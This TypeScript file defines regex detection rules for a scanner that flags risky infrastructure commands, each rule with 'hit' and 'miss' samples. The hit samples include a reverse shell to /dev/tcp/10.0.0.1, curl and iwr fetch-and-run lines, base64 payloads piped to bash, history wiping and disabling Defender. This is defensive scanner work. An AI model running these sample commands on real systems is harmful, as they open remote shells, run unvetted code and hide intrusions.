import type { SettingRow } from '../setting.ts';
import { rowsOf } from '../setting-row.ts';

/** Wherever lines of a shell stand. */
const shells = ['script', 'dockerfile', 'pipeline', 'ansible', 'compose', 'kubernetes', 'terraform'] as const;
const everywhere = [...shells, 'workflow'] as const;

/** What a command opens, fetches or switches off. */
export const commandRows: readonly SettingRow[] = [
  ...rowsOf('infra-fetch', shells, {
    'a script that is fetched and run at once': {
      pattern:
        /\b((ba|z|da|k)?sh|python[\d.]*|perl|ruby|node)\s+(-\w+\s+)*["']?(<\(|\$\(|`)\s*(sudo\s+)?(curl|wget|fetch)\b|(^|[\s;&|("'])(eval|source|\.)\s+["']?(<\(|\$\(|`)\s*(curl|wget|fetch)\b|\b(curl|wget)\b[^|\n]{0,300}\|\s*(sudo\s+(-\w+\s+)*)?(env\s+)?\/\S*\/((ba|z|da|k)?sh|python[\d.]*|perl|node)\b/,
      hit: 'bash <(curl -s https://acme.dev/a)',
      miss: 'bash <(cat a)',
    },
  }),
  ...rowsOf('infra-fetch', everywhere, {
    'a script that is fetched, saved and run': {
      pattern:
        /\b(curl|wget)\b[^|\n]{0,200}?(\b[\w.-]{1,60}\.(?:sh|py|run|bash|pl))\b["']?[^|\n]{0,100}(&&|;)\s*(sudo\s+)?((ba|da|z)?sh|python\d?|perl|chmod\s+\S*x\S*)\s+(-\w+\s+)*["']?(\S*\/)?\2\b/,
      hit: 'curl -o setup.sh https://acme.dev/a && sh setup.sh',
      miss: 'curl -o setup.txt https://acme.dev/a && cat setup.txt',
    },
    'code that nobody can read before it runs': {
      pattern:
        /\bbase64\s+(-d|-D|-di|--decode)\b[^|\n]*\|\s*(sudo\s+)?(\S*\/)?((ba|z|da)?sh|python\d?|perl|php)\b|\b(eval|sh\s+-c|bash\s+-c)\s+["']?(\$\(|`)[^)`]*\b(base64\s+(-d|--decode)|xxd\s+-r|openssl\s+enc\s+-d)/,
      hit: 'echo $a | base64 -d | bash',
      miss: 'echo $a | base64 -d | jq',
    },
    'a script from the net in another shell': {
      pattern:
        /\b(iex|Invoke-Expression)\b.*\b(iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\b|\b(iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\b.*\|\s*(iex|Invoke-Expression)\b|-(enc|EncodedCommand)\s+[A-Za-z0-9+/=]{40}|\bSet-ExecutionPolicy\s+(-\w+\s+)*(Bypass|Unrestricted)\b.*LocalMachine/i,
      hit: 'iwr https://acme.dev/a.ps1 | iex',
      miss: 'iwr https://acme.dev/a.ps1 -OutFile a.ps1',
    },
    'packages that come without encryption or signature': {
      pattern:
        /--(extra-)?index-url[= ]["']?http:\/\/(?!localhost|127\.)|--registry[= ]["']?http:\/\/(?!localhost|127\.)|\bgit\+http:\/\/|\bgit\s+clone\s+(-\S+\s+)*["']?(http|git):\/\/(?!localhost|127\.)|\[[^\]]*trusted=yes[^\]]*\]|\bAcquire::(https?::Verify-(Peer|Host)|AllowInsecureRepositories|Check-Valid-Until)["']?[=\s]+["']?(false|true)|\brpm\b.*--(nosignature|nodigest|nogpg)\b|--no-gpg-checks?\b|\bSigLevel\s*=\s*Never|\bGOSUMDB=off\b|\b(GOINSECURE|GONOSUMDB|GONOSUMCHECK)=["']?\*|\bDOCKER_CONTENT_TRUST=0\b|--disable-content-trust\b(?!=false)|--insecure-ignore-tlog\b|\bgpgcheck=0\b/,
      hit: 'pip install --index-url http://acme.dev/simple a',
      miss: 'pip install --index-url https://acme.dev/simple a',
    },
  }),
  ...rowsOf('infra-privilege', everywhere, {
    'a shell for somebody far away': {
      pattern:
        /\/dev\/(tcp|udp)\/\S+\/(\d+|\$\w+)\s*(0?>&1|0<&1|<&1)|\bsh\s+-i\b.*(\/dev\/(tcp|udp)\/|\bnc\b|\bncat\b)|\bexec\s+\d+<>\s*\/dev\/(tcp|udp)\/|\b(nc|ncat|netcat)\b\s+(-\w+\s+)*(-\w*[ec]|--exec|--sh-exec)\s+["']?\S*(sh|cmd)\b|\bsocat\b.*\b(exec|system):["']?\S*sh\b|\bmkfifo\b.*\|\s*(nc|ncat|openssl\s+s_client)\b|\bpty\.spawn\(|\bfsockopen\([^)]*\).*\b(exec|shell_exec|proc_open)\b/i,
      hit: 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
      miss: 'bash -i script.sh',
    },
    'a container with all rights of its host': {
      pattern:
        /\b(docker|podman|nerdctl)\b.*\s(--privileged\b(?!=false)|--pid[= ]host\b|--ipc[= ]host\b|--userns[= ]host\b|--cap-add[= ](ALL|SYS_ADMIN|SYS_PTRACE|SYS_MODULE|SYS_RAWIO|NET_ADMIN|CAP_SYS_ADMIN)\b|--security-opt[= ]\S*(unconfined|label[=:]disable)|(-v|--volume)[= ]["']?\/:|(-v|--volume)[= ]["']?\/(etc|root|proc|sys|var\/run|var\/lib\/docker)?\/?:|(-v|--volume)[= ]["']?\S*docker\.sock:)/,
      hit: 'docker run -v /:/host a',
      miss: 'docker run -v /srv:/srv a',
    },
    'a group that rules the machine': {
      pattern:
        /\b(usermod|gpasswd|adduser|addgroup|useradd)\b.*\s(-aG|-a\s+-G|-Ga|-G|-a)\s+["']?(\w+,)*(docker|sudo|wheel|root|admin|lxd|disk)\b|\badduser\s+\S+\s+(docker|sudo|wheel|root|lxd)\s*$/,
      hit: 'usermod -aG docker app',
      miss: 'usermod -aG video app',
    },
    'a right of the kernel for a program': {
      pattern:
        /\bsetcap\s+(-\w+\s+)*["']?\S*cap_(sys_admin|setuid|setgid|dac_override|dac_read_search|sys_ptrace|sys_module|net_admin|sys_rawio|chown|fowner)\b/,
      hit: 'setcap cap_setuid+ep /usr/bin/a',
      miss: 'setcap cap_net_bind_service+ep /usr/bin/a',
    },
  }),
  ...rowsOf('infra-privilege', ['script', 'pipeline'], {
    'a file that everybody can write': {
      pattern: /\bchmod\s+(-\w+\s+)*(0?777|a\+rwx|a\+w|o\+w|ugo\+rwx)\b/,
      hit: 'chmod -R 777 /srv',
      miss: 'chmod -R 755 /srv',
    },
  }),
  ...rowsOf('infra-permission', everywhere, {
    'every right for somebody': {
      pattern:
        /\bcreate\s+clusterrolebinding\b.*--clusterrole[= ]["']?(cluster-)?admin\b|\bpolicy\/(AdministratorAccess|IAMFullAccess|PowerUserAccess)\b|\badd-iam-policy-binding\b.*--role[= ]["']?roles\/(owner|editor|iam\.\w*Admin|iam\.serviceAccountTokenCreator)\b|\brole\s+assignment\s+create\b.*--role[= ]["']?(Owner|Contributor|User Access Administrator)\b|\bGRANT\s+ALL\s+PRIVILEGES\s+ON\s+\*\.\*|\bgrant\s+superuser\b|--principal[= ]["']?\*["']?(\s|$)/i,
      hit: 'kubectl create clusterrolebinding a --clusterrole=cluster-admin --user=b',
      miss: 'kubectl create clusterrolebinding a --clusterrole=view --user=b',
    },
  }),
  ...rowsOf('infra-exposure', everywhere, {
    'a store or a service for everybody': {
      pattern:
        /--acl[= ]["']?public-read(-write)?\b|\bdelete-public-access-block\b|\b(BlockPublicAcls|BlockPublicPolicy|RestrictPublicBuckets|IgnorePublicAcls)=false\b|--public-access[= ]["']?(blob|container)\b|--allow-blob-public-access[= ]["']?true\b|--public-network-access[= ]["']?Enabled\b|--publicly-accessible\b|--default-action[= ]["']?Allow\b|--members?[= ]["']?(allUsers|allAuthenticatedUsers)\b|\bgsutil\b.*\b(allUsers|allAuthenticatedUsers|public-read)\b|--group-names\s+all\b|--auth-type[= ]["']?NONE\b|--allow-unauthenticated\b/,
      hit: 'aws s3 cp a s3://b --acl public-read',
      miss: 'aws s3 cp a s3://b --acl private',
    },
    'an entrance from the whole internet': {
      pattern:
        /\b(authorize-security-group-ingress|firewall-rules?\s+(create|update)|nsg\s+rule\s+(create|update)|security\s+group\s+rule\s+create)\b.*["' =](0\.0\.0\.0\/0|::\/0|\*|Internet)(["'\s]|$)|--(source-ranges|cidr|source-address-prefixes|authorized-ip-ranges|master-authorized-networks|cidr-ip)[= ]["']?(0\.0\.0\.0\/0|::\/0|\*)|--start-ip-address[= ]0\.0\.0\.0\b.*--end-ip-address[= ]255/,
      hit: 'gcloud compute firewall-rules create a --allow tcp:22 --source-ranges 0.0.0.0/0',
      miss: 'gcloud compute firewall-rules create a --allow tcp:22 --source-ranges 10.0.0.0/8',
    },
    'a workbench without a password': {
      pattern:
        /\bjupyter\b.*--(NotebookApp|ServerApp|IdentityProvider)\.(token|password)=(['"]{2}|\s|$)|\bcode-server\b.*--auth[= ]none\b|\bttyd\b(?!.*(-c|--credential)\b).*\s(ba)?sh\b|\bdockerd?\b.*-H[= ]["']?tcp:\/\/0\.0\.0\.0|\bxhost\s+\+(\s|$)|\bx11vnc\b.*-nopw\b|\bmongod\b.*--bind_ip_all\b|\bngrok\s+(http|tcp)\b/,
      hit: "jupyter lab --ServerApp.token=''",
      miss: 'jupyter lab --ServerApp.token=$a',
    },
  }),
  ...rowsOf('infra-protection', everywhere, {
    'a server whose name is not checked': {
      pattern:
        /\bUserKnownHostsFile[= ]["']?\/dev\/null\b|\baws\b.*--no-verify-ssl\b|\bVAULT_SKIP_VERIFY["']?\s*[=:]\s*["']?(1|true)\b|-tls-skip-verify\b|--(src-|dest-)?tls-verify[= ]false\b|\bAZURE_CLI_DISABLE_CONNECTION_VERIFICATION["']?\s*[=:]\s*["']?1\b|\bLDAPTLS_REQCERT["']?\s*[=:]\s*["']?(never|allow)\b|\bssl_verify\s+(false|no)\b|\bsecure-http\s+false\b|\bdisable-tls\s+true\b|\bhttps_validate_certificates=False\b|--trust-server-cert(-failures)?\b|\bNODE_TLS_REJECT_UNAUTHORIZED\s+["']?0\b|\bPYTHONHTTPSVERIFY\s+["']?0\b|\bGIT_SSL_NO_VERIFY\s+["']?(1|true)\b|\bCURL_INSECURE=1\b|--ssl-no-verify\b|--no-ssl-verify\b|--insecure-registry\b|\bHELM_\w*INSECURE\w*=true\b|\bSSL_VERIFY["']?\s*[=:]\s*["']?(false|0|no)\b/,
      hit: 'aws s3 ls --no-verify-ssl',
      miss: 'aws s3 ls --no-sign-request',
    },
    'a login that is easy to force': {
      pattern:
        /\bPermitRootLogin\s+yes\b(?!.*PermitRootLogin\s+(no|prohibit|without))|\bPasswordAuthentication\s+yes\b(?!.*PasswordAuthentication\s+no)|\bPermitEmptyPasswords\s+yes\b(?!.*PermitEmptyPasswords\s+no)|\bpasswd\s+(-d|--delete)\b|:[\w!@#%-]+["']?\s*\|\s*(sudo\s+)?chpasswd\b/,
      hit: "sed -i 's/#PermitRootLogin no/PermitRootLogin yes/' a",
      miss: "sed -i 's/PermitRootLogin yes/PermitRootLogin no/' a",
    },
    'traces that are wiped out': {
      pattern:
        /\bunset\s+HISTFILE\b|\bset\s+\+o\s+history\b|\bhistory\s+-c\b|\bHISTFILE=\/dev\/null\b|\b(rm|truncate|shred)\b.*\/var\/log\/(auth|secure|audit|wtmp|btmp|lastlog|messages|syslog)|\bwevtutil\s+cl\b|\bauditctl\s+(-D|-e\s*0)\b|\bstop-logging\b.*\bcloudtrail\b|\bcloudtrail\s+(stop-logging|delete-trail)\b/,
      hit: 'unset HISTFILE',
      miss: 'unset HISTSIZE',
    },
    'a guard of the machine that is off': {
      pattern:
        /\bSet-MpPreference\b.*-Disable\w+\s+\$?true\b|\bnetsh\s+advfirewall\b.*\boff\b|\bSet-NetFirewallProfile\b.*-Enabled\s+False\b|\bspctl\s+--master-disable\b|\bcsrutil\s+disable\b|\bsysctl\s+(-w\s+)?kernel\.(randomize_va_space|yama\.ptrace_scope|kptr_restrict|unprivileged_bpf_disabled)\s*=\s*0\b|\baa-(disable|teardown|complain)\b|\bswapoff_never\b/i,
      hit: 'Set-MpPreference -DisableRealtimeMonitoring $true',
      miss: 'Set-MpPreference -DisableRealtimeMonitoring $false',
    },
  }),
  ...rowsOf('infra-weak', shells, {
    'a password that the list of processes shows': {
      pattern:
        /\bsshpass\s+-p\b|\b(docker|podman|helm\s+registry|skopeo|oras)\s+login\b.*\s(-p|--password)[= ]\S|\b(mysql|mysqldump|mysqladmin)\b.*\s(-p|--password=)["']?\$|\bcurl\b.*\s(-u|--user)[= ]["']?\w+:[^$\s"']{3}|\bredis-cli\b.*\s-a\s+\S|\bmongo(sh|dump|restore)?\b.*\s-p\s+\S/,
      hit: 'docker login -u a -p $PASSWORD',
      miss: 'docker login -u a --password-stdin',
    },
    'a path that a missing word turns into the root of the disk': {
      pattern: /\brm\s+(-\w+\s+)*-\w*[rR]\w*\s+(-\S+\s+)*["']?\$\{?\w+\}?["']?\/(\*|["']?\s*$|["']?\s*[;&|])/,
      hit: 'rm -rf "$DIR"/*',
      miss: 'rm -rf "$DIR"/cache/*',
    },
    'a download without encryption': {
      pattern:
        /\b(wget\b(?!.*--spider)|curl\b.*(\s-\w*[oO]\b|--output|--remote-name|\|\s*(sudo\s+)?(tar|gpg|apt-key|rpm|bsdtar|gunzip)\b)).*\bhttp:\/\/(?!localhost|127\.|0\.0\.0\.0|\[?::1|10\.|192\.168\.|169\.254\.|[\w-]+[:/])/,
      hit: 'wget http://acme.dev/a.tgz',
      miss: 'wget https://acme.dev/a.tgz',
    },
  }),
];
